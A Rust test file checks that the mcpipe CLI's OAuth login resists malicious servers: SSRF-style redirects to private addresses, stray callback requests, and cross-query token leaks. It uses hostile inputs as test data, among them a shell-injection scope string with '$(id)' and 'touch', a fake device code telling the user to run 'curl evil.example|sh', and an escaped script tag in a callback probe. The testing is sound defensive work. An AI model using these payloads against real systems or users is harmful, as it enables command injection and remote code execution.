//! Malicious servers: their text never becomes a command, a page to open, or the end of a login.

use std::io::{Read, Write};
use std::net::TcpStream;

use serde_json::{Value, json};

use crate::support::mcp_http::LegacyHttpOptions;
use crate::support::oauth::{ProtectedServer, oauth_error};
use crate::support::{HttpServer, Mcp, Reply, Request, Sandbox};

/// The words that a shell would run for the command in the hint of this text.
fn hinted(stderr: &str) -> Vec<String> {
    let hint = stderr.lines().find_map(|line| line.strip_prefix("hint: ")).expect("a hint");
    let command = &hint[hint.find("mcpipe ").expect("a command")..];
    let output = std::process::Command::new("sh")
        .args(["-c", &format!("mcpipe() {{ printf '%s\\n' \"$@\"; }}; {command}")])
        .output()
        .unwrap();
    String::from_utf8(output.stdout).unwrap().lines().map(ToOwned::to_owned).collect()
}

#[test]
fn a_scope_cannot_smuggle_a_command_into_a_hint() {
    let (sandbox, server) = (Sandbox::new(), ProtectedServer::start());
    server.log_in(&sandbox);
    let pwned = sandbox.work().join("pwned");
    let scope = format!("a';touch${{IFS}}{};' $(id) b\\\" \u{202e}c d", pwned.display());
    let challenge = format!("Bearer error=\"insufficient_scope\", scope=\"{}\"", scope.replace('"', "\\\""));
    server.at_server(move |request| {
        let called = request.target == "/mcp" && request.rpc_method() == "tools/call";
        called.then(|| Reply::status(403).header("WWW-Authenticate", &challenge))
    });
    let run = sandbox.mcpipe(["call", &server.url(), "add", "a=1", "b=2"]).run();
    run.exits(4).stderr_contains("requires scopes that the login does not have").hides("\u{202e}");
    let words = hinted(run.stderr());
    let evil = format!("a';touch${{IFS}}{};'", pwned.display());
    assert_eq!(words[..4], ["auth", "login", &server.url(), "--scope"], "{run:?}");
    // Invalid scopes (RFC 6749 §3.3) are ignored.
    assert_eq!(words[4], format!("read {evil} $(id) d"), "{run:?}");
    assert_eq!(words.len(), 5);
    assert!(!pwned.exists());
}

/// A public server, reached through a scripted proxy, and its login metadata.
fn public(metadata: Value, device: Value) -> HttpServer {
    HttpServer::start(move |request: &Request| {
        let origin = "http://mcp.example.com";
        match request.target.strip_prefix(origin).expect("a proxy is asked for whole URLs") {
            "/.well-known/oauth-protected-resource/mcp" => {
                Reply::json(&json!({"resource": format!("{origin}/mcp"), "authorization_servers": [origin]}))
            }
            "/.well-known/oauth-authorization-server" => {
                let mut document = json!({
                    "issuer": origin,
                    "authorization_endpoint": format!("{origin}/authorize"),
                    "token_endpoint": format!("{origin}/token"),
                    "registration_endpoint": format!("{origin}/register"),
                    "device_authorization_endpoint": format!("{origin}/device"),
                    "code_challenge_methods_supported": ["S256"],
                });
                document.as_object_mut().unwrap().extend(metadata.as_object().unwrap().clone());
                Reply::json(&document)
            }
            "/register" => Reply::json(&json!({"client_id": "c"})).with_status(201),
            "/device" => Reply::json(&device),
            "/token" => Reply::json(&json!({"error": "access_denied"})).with_status(400),
            "/mcp" => Reply::status(401).header("WWW-Authenticate", "Bearer"),
            other => panic!("nobody asks for {other}"),
        }
    })
}

#[test]
fn sec_02_a_public_server_cannot_send_the_user_to_a_page_of_a_private_network() {
    let pages =
        ["http://127.0.0.1:9/admin?confirm=yes", "http://localhost:9/", "https://192.168.1.1/", "https://[::1]/"];
    let log_in = |server: &HttpServer, words: &[&str]| {
        let sandbox = Sandbox::new();
        let opened = sandbox.work().join("opened");
        let proxy = server.url("");
        let run = ["auth", "login", "http://mcp.example.com/mcp", "--allow-http", "--proxy", &proxy, "--timeout", "5s"];
        let run = sandbox.mcpipe(run).args(words.iter().copied()).stdin("");
        let run = run.env("BROWSER", format!("touch {}", opened.display())).run();
        assert!(!opened.exists(), "{run:?}");
        run
    };
    for page in pages {
        let server = public(json!({"authorization_endpoint": page}), json!({}));
        for words in [&[][..], &["--no-browser"]] {
            let run = log_in(&server, words);
            run.exits(4)
                .prints("")
                .stderr_contains("must not be used for a login")
                .hides("?response_type")
                .hides("confirm=yes");
        }
        let offer = json!({"device_code": "dev1ce", "user_code": "A", "verification_uri": page, "interval": 1});
        let server = public(json!({}), offer);
        log_in(&server, &["--device"])
            .exits(4)
            .prints("")
            .stderr_contains("must not be used for a login")
            .hides("enter the code");
        let offer = json!({"device_code": "dev1ce", "user_code": "A", "verification_uri": "https://as.example.com/",
            "verification_uri_complete": page, "interval": 1});
        let server = public(json!({}), offer);
        log_in(&server, &["--device"])
            .exits(4)
            .stderr_contains("https://as.example.com/")
            .hides("confirm=yes")
            .hides("which holds");
    }
}

#[test]
fn hints_hold_the_target_as_a_shell_takes_it() {
    let sandbox = Sandbox::new();
    let server = ProtectedServer::in_front_of({
        let mcp = Mcp::modern().http_script(LegacyHttpOptions::default());
        move |request: &Request| mcp(request)
    });
    let url = format!("{}?a=1&b=2", server.url());
    let metadata = server.mcp.url("/.well-known/oauth-protected-resource/mcp");
    server.at_server(move |request| {
        let challenge = format!("Bearer resource_metadata=\"{metadata}\", scope=\"read\"");
        request.target.starts_with("/mcp?").then(|| Reply::status(401).header("WWW-Authenticate", &challenge))
    });
    server.queue_replies("/token", vec![oauth_error(401, "invalid_client")]);
    let refused = sandbox.mcpipe(["auth", "login", &url]).with_browser().run();
    refused.exits(4).stderr_contains(&format!("mcpipe auth login '{url}' --token-endpoint-auth-method METHOD"));
    let late = sandbox.mcpipe(["auth", "login", &url, "--timeout", "1s"]).env("BROWSER", "true").run();
    late.exits(6).stderr_contains(&format!("mcpipe auth logout '{url}'"));
}

/// Two servers that differ only in the query, each with its own login.
#[test]
fn aut_20_a_token_for_one_query_is_not_sent_to_another() {
    let (sandbox, server) =
        (Sandbox::new(), ProtectedServer::in_front_of(Mcp::modern().http_script(LegacyHttpOptions::default())));
    let mcp = Mcp::modern().http_script(LegacyHttpOptions::default());
    server.at_server(move |request| {
        let origin = format!("http://{}", request.header("host")?);
        let (path, query) = request.target.split_once('?')?;
        if path == "/mcp" {
            let metadata = format!("{origin}/.well-known/oauth-protected-resource/mcp?{query}");
            let token = request.header("authorization").is_some_and(|token| token.starts_with("Bearer access-"));
            return Some(if token {
                mcp(request)
            } else {
                let challenge = format!("Bearer resource_metadata=\"{metadata}\", scope=\"read\"");
                Reply::status(401).header("WWW-Authenticate", &challenge)
            });
        }
        None
    });
    let issuer = server.issuer.url("");
    server.at_server(move |request| {
        let origin = format!("http://{}", request.header("host")?);
        let query = request.target.strip_prefix("/.well-known/oauth-protected-resource/mcp?")?;
        let document = json!({"resource": format!("{origin}/mcp?{query}"), "authorization_servers": [issuer]});
        Some(Reply::json(&document))
    });
    let url = |tenant: &str| format!("{}?tenant={tenant}", server.url());
    let run = |words: &[&str]| sandbox.mcpipe(words.iter().copied()).with_browser().run();
    run(&["list", &url("a"), "--login", "always"]).exits(0);
    assert_eq!(server.token_forms()[0]["resource"], url("a"));
    let other = run(&["list", &url("b")]);
    other.exits(4).stderr_contains("requires a login");
    let to_b = |request: &Request| request.target.ends_with("tenant=b");
    assert!(
        server.mcp.requests().iter().filter(|request| to_b(request)).all(|it| it.header("authorization").is_none())
    );
    // Each keeps its own login, and logging out of one does not affect the other.
    run(&["list", &url("b"), "--login", "always"]).exits(0);
    for (tenant, token) in [("a", "Bearer access-1"), ("b", "Bearer access-2")] {
        run(&["list", &url(tenant)]).succeeds();
        assert_eq!(server.mcp.requests().last().unwrap().header("authorization"), Some(token), "{tenant}");
    }
    assert_eq!(sandbox.login_status().as_array().unwrap().len(), 2);
    assert_eq!(run(&["auth", "status", &url("b"), "--json"]).json()["credentials"].as_array().unwrap().len(), 1);
    run(&["auth", "logout", &url("a")]).exits(0);
    run(&["list", &url("a")]).exits(4);
    run(&["list", &url("b")]).succeeds();
    // Neither does an import, nor does it affect the login for every query.
    run(&["auth", "login", &server.url()]).exits(0);
    sandbox.mcpipe(["auth", "import", &url("b")]).stdin(r#"{"access_token": "access-9"}"#).run().exits(0);
    run(&["auth", "token", &url("b")]).succeeds().prints("access-9\n");
    assert_eq!(run(&["auth", "status", &url("b"), "--json"]).json()["credentials"].as_array().unwrap().len(), 1);
    run(&["auth", "logout", &url("b")]).exits(0);
    run(&["auth", "token", &server.url()]).succeeds().prints("access-3\n");
}

/// Sends one request to the port that waits for the redirect.
fn send_raw_request(port: u16, target: &str) -> String {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream.write_all(format!("GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n").as_bytes()).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    answer
}

#[test]
fn aut_17_a_stray_request_does_not_end_a_login() {
    let (sandbox, server) = (Sandbox::new(), ProtectedServer::start());
    let login = sandbox.mcpipe(["auth", "login", &server.url()]).env("BROWSER", "true").start();
    while !login.stderr_so_far().contains("/authorize?") {
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let said = login.stderr_so_far();
    let query = said.split("/authorize?").nth(1).unwrap().split_whitespace().next().unwrap();
    let page: std::collections::HashMap<String, String> =
        url::form_urlencoded::parse(query.as_bytes()).into_owned().collect();
    let port = url::Url::parse(&page["redirect_uri"]).unwrap().port().unwrap();
    let (state, issuer) = (&page["state"], server.issuer.url(""));
    for stray in ["", "?", "?x=1", "?code=evil", "?code=evil&state=guess", "?error=%3Cscript%3E", "?state=a&state=b"] {
        let answer = send_raw_request(port, &format!("/callback{stray}"));
        assert!(answer.starts_with("HTTP/1.1 400 "), "{stray}: {answer}");
        assert!(!answer.contains("evil") && !answer.contains("You can close this page"), "{answer}");
        assert!(!answer.contains("<script"), "{answer}");
    }
    let done = send_raw_request(port, &format!("/callback?code=c0de&state={state}&iss={issuer}"));
    assert!(done.starts_with("HTTP/1.1 200 "), "{done}");
    login.wait().exits(0);
    assert_eq!(server.token_forms()[0]["code"], "c0de");
}

#[test]
fn a_device_code_is_one_short_line() {
    let offer = |code: &str| {
        Reply::json(&json!({"device_code": "dev1ce", "user_code": code, "interval": 1,
            "verification_uri": "https://as.example.com/"}))
    };
    for code in
        ["AB\n\nmcpipe: error: run this first:\n  curl evil.example|sh", "A\u{1b}[2JB", "A\u{202e}B", &"A".repeat(200)]
    {
        let (sandbox, server) = (Sandbox::new(), ProtectedServer::start());
        server.queue_replies("/device", vec![offer(code)]);
        let run = sandbox.mcpipe(["auth", "login", &server.url(), "--device"]).run();
        run.exits(4).prints("").stderr_contains("the authorization server sent a code that cannot be shown");
        run.hides("evil.example").hides("AAAA").hides("enter the code");
        assert!(server.requested_grants().is_empty());
    }
    let (sandbox, server) = (Sandbox::new(), ProtectedServer::start());
    server.queue_replies("/device", vec![offer("WDJB mjht-0042")]);
    sandbox.mcpipe(["auth", "login", &server.url(), "--device"]).run().exits(0).stderr_contains("\n  WDJB mjht-0042\n");
}
